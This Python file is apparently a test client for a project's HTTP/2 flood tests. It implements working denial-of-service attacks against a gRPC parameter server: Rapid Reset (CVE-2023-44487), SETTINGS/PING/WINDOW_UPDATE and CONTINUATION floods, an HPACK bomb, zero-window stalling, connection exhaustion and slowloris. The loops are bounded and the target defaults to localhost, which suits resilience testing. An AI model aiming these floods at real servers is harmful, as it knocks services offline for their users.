#!/usr/bin/python3
"""A hostile HTTP/2 client for the flood tests (test/check_flood.c) and the
flood bench: raw frames on one or more TCP (or TLS) connections to a ps.

Every loop is bounded in frames and in seconds. Prints one JSON line:
  {"mode": ..., "frames": N, "streams": N, "closed": bool, "close_ms": ms
   from the flood's first frame to the connection's end (-1: never),
   "goaway": bool, "conns": N, "conns_closed": N, "last_close_ms": the last
   connection's end (-1: none ended)}
and exits 0 (a connection that could not be opened at all: exit 3).

Modes:
  reset         HEADERS then RST_STREAM for each new stream (CVE-2023-44487)
  settings      SETTINGS frames
  ping          PING frames
  window        WINDOW_UPDATE frames on the connection
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames
  bigheaders    streams whose header block is 1 MB (HEADERS + CONTINUATION)
  bigcall       one such stream, then waits for the server to end it
                ("first_call_ended")
  hpackbomb     a 4 kB header in the dynamic table, referenced 4,000 times a block
  zerowindow    SETTINGS_INITIAL_WINDOW_SIZE 0, then whole Status calls whose
                replies are never read
  conns         many connections from one address, each after the preface idle
  slowloris     many connections, each after the preface trickling a 4 kB
                HEADERS frame a byte at a time
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first):
    cap = (1 << prefix_bits) - 1
    if value < cap:
        return bytes([first | value])
    out = bytearray([first | cap])
    value -= cap
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    """A literal header field with a literal name, no Huffman."""
    if isinstance(name, str):
        name = name.encode()
    if isinstance(value, str):
        value = value.encode()
    head = hpack_int(0, 6, 0x40) if indexing else hpack_int(0, 4, 0x00)
    return head + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def request_block(host, path, extra=b""):
    return (literal(":method", "POST") + literal(":scheme", "http") + literal(":path", path) +
            literal(":authority", host) + literal("content-type", "application/grpc") +
            literal("te", "trailers") + extra)


class Conn:
    def __init__(self, args):
        family = socket.AF_INET6 if ":" in args.host else socket.AF_INET
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.source:
            self.sock.bind((args.source, 0))
        self.sock.settimeout(5)
        self.sock.connect((args.host, args.port))
        if args.cert:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.load_verify_locations(args.ca)
            ctx.load_cert_chain(args.cert, args.key)
            ctx.check_hostname = False
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname=args.host)
        self.sock.setblocking(False)
        self.closed = False
        self.closed_at = 0.0
        self.goaway = False
        self.inbuf = b""
        self.out = b""
        self.ended = set()  # streams the server ended

    def send(self, data, deadline):
        """Sends all of data unless the peer closes or deadline passes."""
        self.out += data
        while self.out and not self.closed:
            if time.monotonic() > deadline:
                return
            r, w = ready(self.sock, True, 0.2)
            if r:
                self.drain()
            if w and not self.closed:
                try:
                    n = self.sock.send(self.out[:1 << 16])
                    self.out = self.out[n:]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass
                except OSError:
                    self.end()

    def drain(self):
        """Reads what the server sent; notes GOAWAY and the end."""
        while not self.closed:
            try:
                chunk = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except OSError:
                self.end()
                return
            if not chunk:
                self.end()
                return
            self.inbuf += chunk
            while len(self.inbuf) >= 9:
                n = (self.inbuf[0] << 16) | (self.inbuf[1] << 8) | self.inbuf[2]
                if len(self.inbuf) < 9 + n:
                    break
                if self.inbuf[3] == GOAWAY:
                    self.goaway = True
                if (self.inbuf[3] in (HEADERS, DATA) and self.inbuf[4] & END_STREAM or
                        self.inbuf[3] == RST):
                    self.ended.add(struct.unpack(">I", self.inbuf[5:9])[0] & 0x7FFFFFFF)
                self.inbuf = self.inbuf[9 + n:]

    def end(self):
        if not self.closed:
            self.closed = True
            self.closed_at = time.monotonic()

    def wait_closed(self, seconds):
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end:
            ready(self.sock, False, 0.1)
            self.drain()


def honest_call(c, block, deadline):
    """One whole call on stream 1 (an empty request), its reply read to the
    end of the stream: the connection has a call behind it before a flood."""
    c.send(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, b"\0" * 5),
           deadline)
    while 1 not in c.ended and not c.closed and time.monotonic() < deadline:
        ready(c.sock, False, 0.1)
        c.drain()
    if 1 not in c.ended:
        sys.exit("h2flood: the call before the flood got no reply")


def ready(sock, write, timeout):
    """(readable, writable) of sock within timeout seconds. poll, not
    select: a slowloris run holds 2,000 sockets, past select's 1,024."""
    p = select.poll()
    p.register(sock, select.POLLIN | (select.POLLOUT if write else 0))
    r = w = False
    for _, ev in p.poll(timeout * 1000):
        r = bool(ev & (select.POLLIN | select.POLLERR | select.POLLHUP))
        w = bool(ev & select.POLLOUT)
    return r, w


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode")
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--source", default="", help="local address to bind, e.g. 127.0.0.2")
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--max-frames", type=int, default=2000000)
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--path", default="/dtrain.ParameterServer/Status")
    ap.add_argument("--cert", default="")
    ap.add_argument("--key", default="")
    ap.add_argument("--ca", default="")
    ap.add_argument("--reconnect", action="store_true",
                    help="reset: after the server closes, connect again until --seconds")
    ap.add_argument("--after-call", action="store_true",
                    help="settings, ping, window: one whole call first, its reply read")
    ap.add_argument("--linger", type=float, default=2.0,
                    help="seconds to wait for the server to close after the flood")
    args = ap.parse_args()

    start = time.monotonic()
    deadline = start + args.seconds
    conns = []
    try:
        for _ in range(max(1, args.conns if args.mode in ("conns", "slowloris") else 1)):
            if time.monotonic() > deadline:
                break
            try:
                c = Conn(args)
            except OSError:
                if not conns:
                    print(json.dumps({"mode": args.mode, "error": "connect"}))
                    return 3
                break
            c.send(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0), deadline)
            conns.append(c)
    except KeyboardInterrupt:
        pass
    c = conns[0]
    block = request_block(args.host, args.path)
    frames = streams = 0
    close_at = -1.0
    flood_start = time.monotonic()
    batch = 64

    def over():
        return frames >= args.max_frames or time.monotonic() > deadline or c.closed

    reconnects = 0
    first_close_ms = -1
    if args.mode == "reset":
        sid = 1
        while args.reconnect and time.monotonic() < deadline and frames < args.max_frames:
            if c.closed:
                if first_close_ms < 0:
                    first_close_ms = int((c.closed_at - flood_start) * 1000)
                try:
                    c = Conn(args)
                    c.send(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0), deadline)
                    reconnects += 1
                    sid = 1
                except OSError:
                    time.sleep(0.01)
                    continue
            out = bytearray()
            for _ in range(batch):
                out += frame(HEADERS, END_HEADERS, sid, block) + frame(RST, 0, sid, struct.pack(">I", 8))
                sid += 2
            c.send(bytes(out), deadline)
            frames += 2 * batch
            streams += batch
        while not over():
            out = bytearray()
            for _ in range(batch):
                out += frame(HEADERS, END_HEADERS, sid, block) + frame(RST, 0, sid, struct.pack(">I", 8))
                sid += 2
                if sid > 0x7FFFFFF0:
                    break
            c.send(bytes(out), deadline)
            frames += 2 * batch
            streams += batch
    elif args.mode in ("settings", "ping", "window"):
        if args.after_call:
            honest_call(c, block, deadline)
        one = {"settings": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
               "ping": frame(PING, 0, 0, b"12345678"),
               "window": frame(WINDOW, 0, 0, struct.pack(">I", 1))}[args.mode]
        while not over():
            c.send(one * 256, deadline)
            frames += 256
    elif args.mode == "continuation":
        c.send(frame(HEADERS, 0, 1, block), deadline)
        filler = frame(CONT, 0, 1, literal("x-filler", "a" * 4000))
        while not over():
            c.send(filler * 16, deadline)
            frames += 16
    elif args.mode == "bigheaders":
        sid = 1
        big = literal("x-big", "b" * 16000)
        while not over():
            c.send(frame(HEADERS, 0, sid, block), deadline)
            for _ in range(64):  # 64 x 16 kB: a 1 MB block
                c.send(frame(CONT, 0, sid, big), deadline)
                frames += 1
            c.send(frame(CONT, END_HEADERS, sid, b""), deadline)
            frames += 2
            streams += 1
            sid += 2
    elif args.mode == "bigcall":
        # One call whose header block is 1 MB and that never sends its
        # message: the server is to end its stream at once.
        big = literal("x-big", "b" * 16000)
        c.send(frame(HEADERS, 0, 1, block), deadline)
        for _ in range(64):
            c.send(frame(CONT, 0, 1, big), deadline)
        c.send(frame(CONT, END_HEADERS, 1, b""), deadline)
        frames, streams = 66, 1
        while 1 not in c.ended and not c.closed and time.monotonic() < deadline:
            ready(c.sock, False, 0.1)
            c.drain()
    elif args.mode == "hpackbomb":
        # First block: the big header enters the dynamic table (index 62).
        sid = 1
        first = block + literal("x-bomb", "c" * 4000, indexing=True)
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, first), deadline)
        sid += 2
        ref = hpack_int(62, 7, 0x80) * 4000  # 4,000 x 4 kB decoded per block
        while not over():
            c.send(frame(HEADERS, 0, sid, block) + frame(CONT, END_HEADERS | END_STREAM, sid, ref),
                   deadline)
            frames += 2
            streams += 1
            sid += 2
    elif args.mode == "zerowindow":
        c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)), deadline)
        sid = 1
        msg = b"\x00\x00\x00\x00\x00"  # an empty StatusRequest
        while not over():
            out = bytearray()
            for _ in range(16):
                out += frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, msg)
                sid += 2
            c.send(bytes(out), deadline)
            frames += 32
            streams += 16
            # Read only what keeps the socket from filling, not the replies'
            # DATA (the window is 0: there is none); pace a little.
            time.sleep(0.001)
    elif args.mode == "conns":
        while time.monotonic() < deadline and not all(x.closed for x in conns):
            for x in conns:
                if not x.closed:
                    x.drain()
            time.sleep(0.05)
    elif args.mode == "slowloris":
        head = struct.pack(">BHBBI", 0, 4096, HEADERS, END_HEADERS, 1)
        body = head + block + literal("x-slow", "d" * (4096 - len(block) - 10))
        pos = 0
        while time.monotonic() < deadline and pos < len(body) and not all(x.closed for x in conns):
            for x in conns:
                if not x.closed:
                    x.send(body[pos:pos + 1], deadline)
            frames += 1
            pos += 1
            time.sleep(0.2)
    else:
        print("unknown mode " + args.mode, file=sys.stderr)
        return 2

    for x in conns:
        if not x.closed:
            x.wait_closed(max(0.0, min(args.linger, deadline + args.linger - time.monotonic())))
    if c.closed:
        close_at = c.closed_at
    closed = sum(1 for x in conns if x.closed)
    last_close_ms = max([int((x.closed_at - flood_start) * 1000) for x in conns if x.closed] or [-1])
    print(json.dumps({"mode": args.mode, "frames": frames, "streams": streams,
                      "closed": c.closed,
                      "close_ms": int((close_at - flood_start) * 1000) if c.closed else -1,
                      "goaway": c.goaway, "conns": len(conns), "conns_closed": closed,
                      "reconnects": reconnects, "first_close_ms": first_close_ms,
                      "first_call_ended": 1 in c.ended,
                      "last_close_ms": last_close_ms}))
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
